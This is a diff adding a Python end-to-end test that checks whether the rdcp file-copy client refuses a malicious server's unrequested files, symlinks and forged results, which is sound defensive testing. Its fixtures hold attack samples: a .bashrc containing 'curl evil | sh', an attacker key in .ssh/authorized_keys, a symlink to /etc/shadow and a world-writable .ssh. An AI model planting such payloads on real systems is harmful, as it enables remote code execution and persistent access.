@@ -1,0 +1,374 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
+"""The client must not trust the server (issue #16, items 10 and 15).
+
+A key holder plays the receiver with tests/e2e/peer.py against the real
+rdcp client over TCP on 127.0.0.1:
+
+  pulls: the client asks for want.txt (or a tree); the server sends
+  other.txt, .bashrc, .ssh/authorized_keys, a packed .profile, a tree
+  without -r, a symlink want -> /etc/shadow, a directory .ssh mode 0777
+  against the user's .ssh 0700 (-p -r), an unrequested name under
+  --resume. Each must end the pull with exit 5, one line naming the entry,
+  nothing of it on disk, ~/.ssh's mode unchanged and, with --resume, no
+  HAVE for the unrequested name;
+
+  pushes: the receiver forges its verdicts: a FILE_RESULT before FILE_END,
+  SKIPPED without -n/-u (and with -n after a HAVE that did not skip), a
+  digest that is not the client's, a pack's PACK_DONE twice. Each must
+  end the push with exit 5, and --json must never show the forged digest.
+
+An honest pull and an honest push through the same harness come first:
+they must exit 0, so the refusals are for what the peer does wrong on
+purpose. (--encrypt variants are in tests/unit/test_trust.c: peer.py does
+not seal chunks.) TAP lines, then "N passed, N failed"; exit 0 only if
+everything passed.
+
+  faults_trust.py [--build DIR] [SCENARIO...]
+"""
+import os
+import shutil
+import stat
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE)
+import peer  # noqa: E402
+from peer import (Entry, Msg, KIND_DIR, KIND_SYMLINK, FILE, FILE_RESULT,  # noqa: E402
+                  PACK_DONE, RESULT_SKIPPED)
+
+ADDR = "127.0.0.1"
+CLIENT_S = 30  # every rdcp run is bounded
+EXIT_PROTOCOL = 5
+
+
+class Case:
+    def __init__(self, work, rdcp, keyfile):
+        self.work, self.rdcp, self.keyfile = work, rdcp, keyfile
+        self.key = peer.load_key(keyfile)
+        self.fails = []
+        self.home = tempfile.mkdtemp(prefix="home.", dir=work)
+
+    def check(self, cond, what):
+        if not cond:
+            self.fails.append(what)
+
+    def rdcp_cmd(self, port, args):
+        return [self.rdcp, "--transport", "tcp", "--port", str(port),
+                "--key-file", self.keyfile, "--timeout", "5"] + args
+
+    def session(self, args, serve):
+        """Runs rdcp with args against a peer.Server on a fresh port that
+        serve(srv) plays after accept(); returns (exit, stderr, stdout,
+        what the peer saw go wrong)."""
+        srv = peer.Server(0, key=self.key, timeout=10.0)
+        port = srv.lsock.getsockname()[1]
+        p = subprocess.Popen(self.rdcp_cmd(port, args),
+                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        note = ""
+        try:
+            srv.accept()
+            serve(srv)
+        except peer.PeerError as e:  # the usual end: rdcp said ERROR
+            note = "%s: %s" % (type(e).__name__, e)
+        finally:
+            srv.close()
+        try:
+            out, err = p.communicate(timeout=CLIENT_S)
+        except subprocess.TimeoutExpired:
+            p.kill()
+            out, err = p.communicate()
+            self.fails.append("rdcp still running after %d s" % CLIENT_S)
+        return p.returncode, err.decode(errors="replace"), \
+            out.decode(errors="replace"), note
+
+    def pull(self, srcs, entries, opts=(), dest=None):
+        """rdcp [opts] HOST:SRC... home/DEST served with entries."""
+        self.srv = None
+
+        def serve(srv):
+            self.srv = srv
+            srv.handshake()
+            srv.expect_ring()
+            srv.run_source(entries)
+        args = list(opts) + ["%s:%s" % (ADDR, s) for s in srcs] + \
+            [os.path.join(self.home, dest or "") if dest else self.home + "/"]
+        return self.session(args, serve)
+
+    def refused(self, res, name):
+        code, err, _, _ = res
+        self.check(code == EXIT_PROTOCOL, "exit %s, want %d: %s" %
+                   (code, EXIT_PROTOCOL, err.strip()[:300]))
+        self.check(("'%s'" % name) in err, "no line naming '%s': %s" %
+                   (name, err.strip()[:300]))
+        self.check(len(err.strip().splitlines()) <= 2,
+                   "more than one line for it: %s" % err.strip()[:400])
+
+    def absent(self, rel):
+        self.check(not os.path.lexists(os.path.join(self.home, rel)),
+                   "%s was written" % rel)
+
+    def only(self, names):
+        left = sorted(os.listdir(self.home))
+        self.check(left == sorted(names), "home holds %s, want %s" %
+                   (left, sorted(names)))
+
+
+# ------------------------------------------------------------------ pulls
+
+def s_pull_honest(c):
+    """an honest pull of a/want.txt: exit 0, placed"""
+    res = c.pull(["a/want.txt"], [Entry("want.txt", b"wanted\n" * 1000)])
+    c.check(res[0] == 0, "exit %s: %s" % (res[0], res[1].strip()[:300]))
+    p = os.path.join(c.home, "want.txt")
+    c.check(os.path.isfile(p) and open(p, "rb").read() == b"wanted\n" * 1000,
+            "want.txt not placed")
+
+
+def s_pull_other(c):
+    """pull of want.txt answered with other.txt: exit 5, nothing written"""
+    c.refused(c.pull(["want.txt"], [Entry("other.txt", b"not asked for")]),
+              "other.txt")
+    c.only([])
+
+
+def s_pull_bashrc(c):
+    """pull of want.txt answered with want.txt and .bashrc: .bashrc refused"""
+    c.refused(c.pull(["want.txt"], [Entry("want.txt", b"ok"),
+                                    Entry(".bashrc", b"curl evil | sh\n")]),
+              ".bashrc")
+    c.absent(".bashrc")
+
+
+def s_pull_authorized_keys(c):
+    """-r pull of want answered with .ssh/authorized_keys: refused"""
+    c.refused(c.pull(["want"], [Entry(".ssh", kind=KIND_DIR, mode=0o700),
+                                Entry(".ssh/authorized_keys",
+                                      b"ssh-ed25519 AAAA attacker\n",
+                                      mode=0o600)], opts=["-r"]),
+              ".ssh")
+    c.absent(".ssh")
+
+
+def s_pull_packed_profile(c):
+    """pull of want.txt with a packed .profile: refused, not placed"""
+    c.refused(c.pull(["want.txt"], [Entry("want.txt", b"ok"),
+                                    Entry(".profile", b"evil\n",
+                                          packed=True)]),
+              ".profile")
+    c.absent(".profile")
+
+
+def s_pull_tree_without_r(c):
+    """pull of want without -r answered with a tree: refused, nothing"""
+    c.refused(c.pull(["want"], [Entry("want", kind=KIND_DIR, mode=0o755),
+                                Entry("want/x", b"inside")]),
+              "want")
+    c.only([])
+
+
+def s_pull_symlink(c):
+    """pull of want answered with want -> /etc/shadow: refused, -r or not"""
+    for opts in ([], ["-r"]):
+        c.refused(c.pull(["want"], [Entry("want", kind=KIND_SYMLINK,
+                                          link=b"/etc/shadow")], opts=opts),
+                  "want")
+        c.only([])
+
+
+def s_pull_ssh_mode(c):
+    """-p -r: .ssh mode 0777 against the user's .ssh 0700: mode kept"""
+    os.mkdir(os.path.join(c.home, ".ssh"), 0o700)
+    os.chmod(os.path.join(c.home, ".ssh"), 0o700)
+    c.refused(c.pull(["want"], [Entry("want", kind=KIND_DIR, mode=0o755),
+                                Entry(".ssh", kind=KIND_DIR, mode=0o777)],
+                     opts=["-p", "-r"]),
+              ".ssh")
+    m = stat.S_IMODE(os.lstat(os.path.join(c.home, ".ssh")).st_mode)
+    c.check(m == 0o700, ".ssh is now %o" % m)
+
+
+def s_pull_ssh_asked(c):
+    """-p -r pull of dot/.ssh into an existing .ssh 0700: copied, mode kept"""
+    os.mkdir(os.path.join(c.home, ".ssh"), 0o700)
+    os.chmod(os.path.join(c.home, ".ssh"), 0o700)
+    res = c.pull(["dot/.ssh"], [Entry(".ssh", kind=KIND_DIR, mode=0o777),
+                                Entry(".ssh/config", b"Host *\n")],
+                 opts=["-p", "-r"])
+    c.check(res[0] == 0, "exit %s: %s" % (res[0], res[1].strip()[:300]))
+    m = stat.S_IMODE(os.lstat(os.path.join(c.home, ".ssh")).st_mode)
+    c.check(m == 0o700, ".ssh is now %o" % m)
+    c.check(os.path.isfile(os.path.join(c.home, ".ssh/config")),
+            ".ssh/config (asked for) not placed")
+
+
+def s_pull_resume_other(c):
+    """--resume pull of want.txt with other.txt: refused, no HAVE for it"""
+    p = os.path.join(c.home, "other.txt")
+    with open(p, "wb") as f:
+        f.write(b"the user's own file\n" * 100)
+    os.chmod(p, 0o600)
+    c.refused(c.pull(["want.txt"], [Entry("other.txt", b"x" * 5000)],
+                     opts=["--resume"]),
+              "other.txt")
+    c.check(c.srv is not None and not c.srv.haves,
+            "the client answered HAVE for other.txt: %s" %
+            (c.srv.haves if c.srv else None))
+    c.check(open(p, "rb").read() == b"the user's own file\n" * 100 and
+            stat.S_IMODE(os.lstat(p).st_mode) == 0o600,
+            "other.txt changed")
+    c.only(["other.txt"])
+
+
+def s_pull_no_clobber_other(c):
+    """-n pull of want.txt with .bashrc: refused before -n looks at it"""
+    c.refused(c.pull(["want.txt"], [Entry("want.txt", b"ok"),
+                                    Entry(".bashrc", b"evil")], opts=["-n"]),
+              ".bashrc")
+    c.check(c.srv is not None and 1 not in c.srv.haves,
+            "the client answered HAVE for .bashrc")
+    c.absent(".bashrc")
+
+
+# ----------------------------------------------------------------- pushes
+
+def push(c, opts, serve, size=300000):
+    """rdcp [opts] --json src/a HOST:in/ against a forging receiver."""
+    src = os.path.join(c.work, "src-%d" % id(c))
+    os.makedirs(src, exist_ok=True)
+    data = os.urandom(size)
+    with open(os.path.join(src, "a"), "wb") as f:
+        f.write(data)
+    with open(os.path.join(src, "b"), "wb") as f:
+        f.write(b"small, packed\n")
+    files = [os.path.join(src, "a"), os.path.join(src, "b")]
+    res = c.session(list(opts) + ["--json"] + files + ["%s:in/" % ADDR],
+                    serve)
+    shutil.rmtree(src)
+    return res
+
+
+def forged_sink(answer=None, tamper=None):
+    def serve(srv):
+        srv.handshake()
+        if tamper:
+            srv.conn.tamper = tamper
+        srv.send_ring()
+        srv.run_sink(answer=answer)
+    return serve
+
+
+def s_push_honest(c):
+    """an honest receiver through the same harness: exit 0"""
+    res = push(c, [], forged_sink())
+    c.check(res[0] == 0, "exit %s: %s" % (res[0], res[1].strip()[:300]))
+
+
+def s_push_early(c):
+    """a FILE_RESULT before FILE_END (ring held): exit 5"""
+    def serve(srv):
+        srv.handshake()
+        srv.conn.auto_release = False  # no slot back: FILE_END cannot go
+        srv.send_ring()
+        deadline = time.monotonic() + 5  # then hang up: no stall
+        while time.monotonic() < deadline:
+            ev = srv.conn.poll(timeout=deadline - time.monotonic())
+            if ev and ev[0] == "msg" and ev[1].type == peer.ERROR:
+                raise peer.RemoteError(ev[1])
+            if ev and ev[0] == "msg" and ev[1].type == FILE:
+                srv.conn.send(Msg(FILE_RESULT, file_id=ev[1].file_id,
+                                  digest=b"\0\0\0\0"))
+        raise peer.PeerError("the client took the early verdict")
+    res = push(c, ["--window", "2", "--chunk-size", "64K"], serve,
+               size=1 << 20)
+    c.check(res[0] == EXIT_PROTOCOL, "exit %s: %s" %
+            (res[0], res[1].strip()[:300]))
+    c.check("before it was sent" in res[1], "not said: %s" %
+            res[1].strip()[:300])
+
+
+def s_push_skipped(c):
+    """SKIPPED without -n/-u, and with -n after a HAVE that kept nothing"""
+    def skip(fm, data, ok):
+        return Msg(FILE_RESULT, file_id=fm.file_id, flags=RESULT_SKIPPED)
+    for opts in ([], ["-n"]):
+        res = push(c, opts, forged_sink(answer=skip))
+        c.check(res[0] == EXIT_PROTOCOL, "%s: exit %s: %s" %
+                (opts, res[0], res[1].strip()[:300]))
+        c.check('"skipped":true' not in res[2].replace(" ", ""),
+                "%s: --json shows a skipped file" % opts)
+
+
+def s_push_digest(c):
+    """success with a digest that is not the client's: exit 5, not shown"""
+    forged = b"\xde\xad\xbe\xef"
+
+    def lie(fm, data, ok):
+        return Msg(FILE_RESULT, file_id=fm.file_id, digest=forged,
+                   sent=len(data))
+    res = push(c, [], forged_sink(answer=lie))
+    c.check(res[0] == EXIT_PROTOCOL, "exit %s: %s" %
+            (res[0], res[1].strip()[:300]))
+    c.check("deadbeef" not in res[2], "--json shows the forged digest")
+
+
+def s_push_pack_twice(c):
+    """a pack answered with PACK_DONE twice: exit 5"""
+    def twice(m):
+        return [m, m] if m.type == PACK_DONE else m
+    res = push(c, [], forged_sink(tamper=twice))
+    c.check(res[0] == EXIT_PROTOCOL, "exit %s: %s" %
+            (res[0], res[1].strip()[:300]))
+
+
+SCENARIOS = [(n[2:], f) for n, f in sorted(globals().items())
+             if n.startswith("s_") and callable(f)]
+ORDER = ["pull_honest", "push_honest"]
+SCENARIOS.sort(key=lambda s: (s[0] not in ORDER, s[0]))
+
+
+def main(argv):
+    build = "build"
+    if argv[:1] == ["--build"]:
+        build, argv = argv[1], argv[2:]
+    rdcp = os.path.abspath(os.path.join(build, "rdcp"))
+    pick = [s for s in SCENARIOS if not argv or s[0] in argv]
+    if not os.access(rdcp, os.X_OK) or not pick:
+        print("not ok 1 - %s" % ("no scenario %s" % argv if not pick
+                                 else rdcp + " missing (run make all)"))
+        print("0 passed, 1 failed")
+        return 1
+    work = tempfile.mkdtemp(prefix="rdcp-e2e-trust.")
+    passed = failed = 0
+    try:
+        keyfile = os.path.join(work, "key")
+        subprocess.run([rdcp, "--keygen", keyfile], check=True,
+                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        print("1..%d" % len(pick))
+        for i, (name, fn) in enumerate(pick, 1):
+            c = Case(work, rdcp, keyfile)
+            t = threading.Thread(target=fn, args=(c,), daemon=True)
+            t.start()
+            t.join(4 * CLIENT_S)
+            if t.is_alive():
+                c.fails.append("hung")
+            ok = not c.fails
+            print("%s %d - %s: %s" % ("ok" if ok else "not ok", i, name,
+                                      fn.__doc__))
+            for f in c.fails:
+                print("#   %s" % f.replace("\n", "\n#   "))
+            passed += ok
+            failed += not ok
+            sys.stdout.flush()
+    finally:
+        shutil.rmtree(work, ignore_errors=True)
+    print("%d passed, %d failed" % (passed, failed))
+    return 0 if failed == 0 else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv[1:]))
